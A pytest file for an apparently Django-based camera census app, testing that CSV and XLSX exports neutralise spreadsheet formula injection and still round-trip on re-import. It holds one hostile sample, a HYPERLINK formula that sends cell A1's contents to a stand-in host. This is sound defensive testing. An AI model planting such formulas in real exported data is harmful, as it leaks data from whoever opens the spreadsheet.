"""Text an agency typed never runs as a formula in someone else's Excel, and still round-trips."""

import csv
import io

import pytest
from django.forms.models import model_to_dict
from django.urls import reverse
from openpyxl import load_workbook

from safetyzone.cameras.models import Camera
from safetyzone.census.importing import run_import
from safetyzone.core.cells import csv_text, csv_unescape
from tests.factories import CameraFactory, SiteFactory

EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"คลิก")'


@pytest.mark.parametrize("text, shown", [
    (EVIL, "'" + EVIL), ("+66 81 234 5678", "'+66 81 234 5678"), ("@SUM(A1)", "'@SUM(A1)"),
    ("-ชำรุด", "'-ชำรุด"), ("-5", "-5"), ("-0.5", "-0.5"), ("ตลาด", "ตลาด"), ("", ""),
])
def test_csv_cells_that_excel_would_run_get_an_apostrophe_and_come_back(text, shown):
    assert csv_text(text) == shown and csv_unescape(shown) == text


def download(client, fmt):
    response = client.get(reverse("census:export"), {"format": fmt, "headers": "th"})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_formula_typed_as_a_site_name_is_exported_as_text_and_reimports_unchanged(client, town_editor, town,
                                                                                   tmp_path, fmt):
    site = SiteFactory(owner=town, name=EVIL, area_id="150101")
    CameraFactory(site=site, asset_code="AT-1", point="+ทางเข้า")
    client.force_login(town_editor)
    content = download(client, fmt)
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        assert "'" + EVIL in rows[1]
    else:
        path = tmp_path / "check.xlsx"
        path.write_bytes(content)
        cells = [c for c in load_workbook(path).active[2] if c.value == EVIL]
        assert cells and cells[0].data_type == "s"  # text, not a formula
    before = {c.pk: model_to_dict(c) for c in Camera.objects.all()}
    path = tmp_path / f"export.{fmt}"
    path.write_bytes(content)
    result = run_import(town_editor, town, path)
    assert (result.error_rows, result.unchanged) == (0, 1), result.problems
    assert {c.pk: model_to_dict(c) for c in Camera.objects.all()} == before
    assert Camera.objects.get().site.name == EVIL
